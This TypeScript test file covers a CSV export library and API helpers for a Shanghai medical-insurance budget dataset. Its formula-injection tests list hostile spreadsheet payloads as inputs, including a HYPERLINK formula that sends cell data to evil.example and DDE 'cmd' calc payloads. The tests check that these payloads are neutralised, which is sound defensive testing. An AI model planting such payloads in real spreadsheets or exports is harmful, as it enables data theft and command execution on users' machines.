import assert from "node:assert/strict";
import { describe, it } from "node:test";
import { BOM, csvCell, CsvParseError, neutraliseFormula, parseCsv, quoteField, restoreFormula, toCsv } from "../lib/csv";
import { cellText, columnNames, csvRecords, DATASET_SPECS } from "../lib/api/datasets";
import { ApiError } from "../lib/api/errors";
import { contentDisposition, exportEtag, exportFileStem, matchesIfNoneMatch } from "../lib/api/http";
import { canonicalQuery, parseExportQuery } from "../lib/api/params";

describe("lib/csv: document format", () => {
  it("starts with a BOM, ends every record with CRLF", () => {
    const text = toCsv(["a", "b"], [["1", "2"], ["3", null]]);
    assert.equal(text, `${BOM}a,b\r\n1,2\r\n3,\r\n`);
    assert.ok(Buffer.from(text, "utf8").subarray(0, 3).equals(Buffer.from([0xef, 0xbb, 0xbf])));
  });

  it("quotes fields with comma, quote, CR or LF (RFC 4180) and only those", () => {
    assert.equal(quoteField("plain 中文"), "plain 中文");
    assert.equal(quoteField("35,475,000.00"), '"35,475,000.00"');
    assert.equal(quoteField('say "hi"'), '"say ""hi"""');
    assert.equal(quoteField("two\nlines"), '"two\nlines"');
    assert.equal(quoteField("cr\rhere"), '"cr\rhere"');
    assert.equal(quoteField("tab\tinside"), "tab\tinside");
  });

  it("rejects a row whose length differs from the header", () => {
    assert.throws(() => toCsv(["a", "b"], [["1"]]), /1 cells, header has 2/);
  });

  it("round-trips awkward values exactly", () => {
    const values = ["", "a,b", 'q"uote', "line\r\nbreak", "lf\nonly", "\ttab first", "=1+1", "'quoted", "''two", "中文，全角逗号", "  spaces  ", "-", "05"];
    const header = values.map((_, i) => `c${i}`);
    const records = parseCsv(toCsv(header, [values]));
    assert.equal(records.length, 2);
    assert.deepEqual(records[0], header);
    assert.deepEqual(records[1]?.map(restoreFormula), values);
  });

  it("parses CRLF, LF, a final record without line break, and empty fields", () => {
    assert.deepEqual(parseCsv("a,b\r\n1,\r\n,2"), [["a", "b"], ["1", ""], ["", "2"]]);
    assert.deepEqual(parseCsv(`${BOM}a\n"x\r\ny"\n`), [["a"], ["x\r\ny"]]);
    assert.throws(() => parseCsv('a"b'), CsvParseError);
    assert.throws(() => parseCsv('"a"b'), CsvParseError);
    assert.throws(() => parseCsv('"open'), CsvParseError);
  });

  it("ends a record at a lone CR, and keeps an empty line as one empty field", () => {
    assert.deepEqual(parseCsv("a\rb"), [["a"], ["b"]]);
    assert.deepEqual(parseCsv("a\r\rb"), [["a"], [""], ["b"]]);
    assert.deepEqual(parseCsv("a\n\nb"), [["a"], [""], ["b"]]);
    assert.deepEqual(parseCsv("a\r\n\r\nb"), [["a"], [""], ["b"]]);
  });

  it("accepts a closing quote followed by a comma, CR, LF or the end of input", () => {
    assert.deepEqual(parseCsv('"x",y'), [["x", "y"]]);
    assert.deepEqual(parseCsv('"x"\ry'), [["x"], ["y"]]);
    assert.deepEqual(parseCsv('"x"\ny'), [["x"], ["y"]]);
    assert.deepEqual(parseCsv('"x"'), [["x"]]);
  });

  it("keeps a last record that has no line break, even an empty quoted field or a trailing comma", () => {
    assert.deepEqual(parseCsv('""'), [[""]]);
    assert.deepEqual(parseCsv("a,"), [["a", ""]]);
    assert.deepEqual(parseCsv("a\n"), [["a"]]);
    assert.deepEqual(parseCsv(""), []);
  });

  it("says what is wrong and where", () => {
    assert.throws(() => parseCsv('a"b'), { message: "quote inside an unquoted field at offset 1" });
    assert.throws(() => parseCsv('"a"b'), { message: "text after a closing quote at offset 3" });
    assert.throws(() => parseCsv('"open'), { message: "unterminated quoted field" });
  });
});

describe("lib/csv: formula injection", () => {
  const dangerous = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "+",
    "-",
    "@",
  ];
  for (const value of dangerous) {
    it(`neutralises ${JSON.stringify(value)}`, () => {
      const written = neutraliseFormula(value);
      assert.equal(written, `'${value}`);
      assert.equal(restoreFormula(written), value);
      // Whatever the quoting, the cell a spreadsheet sees starts with the inert quote.
      const parsed = parseCsv(toCsv(["x"], [[value]]))[1]?.[0];
      assert.equal(parsed, `'${value}`);
    });
  }

  it("keeps =HYPERLINK inert inside a quoted field too", () => {
    const cell = csvCell('=HYPERLINK("http://evil.example","a,b")');
    assert.equal(cell, `"'=HYPERLINK(""http://evil.example"",""a,b"")"`);
  });

  it("leaves plain numbers alone, negative ones included", () => {
    for (const n of ["35475000.00", "-4891000.00", "+5", "-1,234.50", "-12,345.00", "-123,456", "-1,234,567.89", "0", "-0.2", "05"]) assert.equal(neutraliseFormula(n), n);
  });

  it("escapes a leading quote so the rule can be undone", () => {
    assert.equal(neutraliseFormula("'abc"), "''abc");
    assert.equal(restoreFormula("''abc"), "'abc");
    assert.equal(restoreFormula("'-5"), "'-5"); // a plain number is never prefixed, so this quote is data
    assert.equal(restoreFormula("plain"), "plain");
  });

  it("escapes a lone quote and a quote before a number, and restores both", () => {
    assert.equal(neutraliseFormula("'"), "''");
    assert.equal(neutraliseFormula("'5"), "''5");
    assert.equal(neutraliseFormula("'-1,234.50"), "''-1,234.50");
    assert.equal(restoreFormula("''"), "'");
    assert.equal(restoreFormula("''5"), "'5");
    assert.equal(restoreFormula("'"), "'"); // the writer never writes a lone quote, so it is data
  });

  it("does not touch text that merely contains the characters", () => {
    for (const v of ["a=b", "≥95%", "1-2", "x@y", "中=文"]) assert.equal(neutraliseFormula(v), v);
  });
});

describe("export columns", () => {
  it("metrics.csv has the documented header, in order", () => {
    assert.equal(
      columnNames("metrics").join(","),
      "district,district_name,year,metric,metric_name,status,amount_yuan,unit_as_published,amount_as_published,scope,entity,source_file,source_line,source_text,project_id,findings",
    );
  });

  it("the other datasets keep their column order", () => {
    assert.deepEqual(
      {
        lines: columnNames("lines").join(","),
        projects: columnNames("projects").join(","),
        indicators: columnNames("indicators").join(","),
        "three-public": columnNames("three-public").join(","),
        findings: columnNames("findings").join(","),
      },
      {
        lines:
          "district,year,source_file,table_no,table_title,classification,side,code,code_lei,code_kuan,code_xiang,code_as_printed,level,name,is_total,column,amount_yuan,unit_as_published,amount_as_published,reading_finding,source_line,source_text",
        projects:
          "district,year,source_file,document_kind,project_id,project_name,metric,metric_source,supervisor,implementer,category,nature,start_date,end_date,amount_field,amount_yuan,unit_as_published,amount_as_published,source_line,source_text",
        indicators: "district,year,source_file,project_id,project_name,level1,level2,level3,value,source_line,source_text",
        "three-public": "district,district_name,year,part,label,amount_yuan,unit_as_published,amount_as_published,source_file,source_line,source_text",
        findings: "id,check,check_name,severity,district,year,metric,cause_id,title,message,found_yuan,expected_yuan,difference_yuan,locations",
      },
    );
  });

  it("renders lists with their separator, booleans as true/false, null as empty", () => {
    const findings = DATASET_SPECS.metrics.columns.find((c) => c.name === "findings");
    const locations = DATASET_SPECS.findings.columns.find((c) => c.name === "locations");
    assert.ok(findings && locations);
    assert.equal(cellText(findings, ["F-1", "F-2"]), "F-1 F-2");
    assert.equal(cellText(locations, ["a.txt:1", "b.txt:2"]), "a.txt:1; b.txt:2");
    assert.equal(cellText(findings, null), null);
    assert.equal(cellText(findings, true), "true");
    assert.throws(() => csvRecords(DATASET_SPECS.findings, [{ id: "x" }]), /row has 1 fields/);
  });
});

describe("export query parameters", () => {
  const domain = { districts: ["baoshan", "putuo", "qingpu"], years: [2022, 2023, 2025, 2026] };
  const parse = (query: string) => parseExportQuery(new URLSearchParams(query), domain);

  it("accepts repeated and comma-separated values, sorted and deduplicated", () => {
    assert.deepEqual(parse("district=qingpu,baoshan&district=baoshan&year=2026&year=2023&metric=mutual-aid,three-public"), {
      districts: ["baoshan", "qingpu"],
      years: [2023, 2026],
      metrics: ["mutual-aid", "three-public"],
    });
    assert.deepEqual(parse(""), { districts: [], years: [], metrics: [] });
    assert.deepEqual(parse("district=&year=,"), { districts: [], years: [], metrics: [] });
  });

  const bad: Array<[string, string]> = [
    ["district=pudong", "district"],
    ["district=Baoshan", "district"],
    ["year=2024", "year"],
    ["year=2023.0", "year"],
    ["year=abc", "year"],
    ["year=02023", "year"],
    ["metric=medical", "metric"],
    ["distrcit=baoshan", "distrcit"],
    ["format=csv", "format"],
  ];
  for (const [query, param] of bad) {
    it(`rejects ${query} naming ${param}`, () => {
      assert.throws(
        () => parse(query),
        (error: unknown) => error instanceof ApiError && error.status === 400 && error.param === param && error.message.includes("Allowed"),
      );
    });
  }

  it("lists the allowed values in the error", () => {
    try {
      parse("year=1999");
      assert.fail("no error");
    } catch (error) {
      assert.ok(error instanceof ApiError);
      assert.deepEqual(error.allowed, ["2022", "2023", "2025", "2026"]);
    }
  });

  it("a parameterless endpoint rejects any parameter", () => {
    assert.throws(() => parseExportQuery(new URLSearchParams("year=2023"), domain, []), (e: unknown) => e instanceof ApiError && e.param === "year");
  });

  it("canonical query is independent of parameter order: district, year, metric, each value once, sorted", () => {
    const canonical = "district=baoshan&district=qingpu&year=2023&year=2026&metric=mutual-aid";
    assert.equal(canonicalQuery(parse("year=2026,2023&district=qingpu,baoshan&metric=mutual-aid")), canonical);
    assert.equal(canonicalQuery(parse("metric=mutual-aid&district=qingpu&year=2023&district=baoshan&year=2026")), canonical);
    assert.equal(canonicalQuery(parse("district=qingpu&district=qingpu")), "district=qingpu");
    assert.equal(canonicalQuery(parse("")), "");
  });
});

describe("export HTTP helpers", () => {
  const query = { districts: ["baoshan", "qingpu"], years: [2023], metrics: [] };

  it("names the file after dataset, filters and data version", () => {
    assert.equal(exportFileStem("metrics", query, "123"), "metrics_district-baoshan+qingpu_year-2023_v123");
  });

  it("gives an ASCII fallback and an RFC 5987 UTF-8 name", () => {
    const header = contentDisposition("attachment", "metrics_v1", "csv");
    assert.match(header, /^attachment; filename="shanghai-medins-budgets_metrics_v1\.csv"; filename\*=UTF-8''%E4%B8%8A%E6%B5%B7/);
    assert.ok(/^[\x20-\x7e]*$/.test(header), "header is ASCII");
  });

  it("ETag depends on data version and URL; If-None-Match compares weakly", () => {
    const a = exportEtag("1", "/api/metrics.csv");
    assert.notEqual(a, exportEtag("2", "/api/metrics.csv"));
    assert.notEqual(a, exportEtag("1", "/api/lines.csv"));
    assert.ok(matchesIfNoneMatch(a, a));
    assert.ok(matchesIfNoneMatch(`"x", ${a.replace(/^W\//, "")}`, a));
    assert.ok(matchesIfNoneMatch("*", a));
    assert.ok(!matchesIfNoneMatch('W/"other"', a));
    assert.ok(!matchesIfNoneMatch(null, a));
  });
});
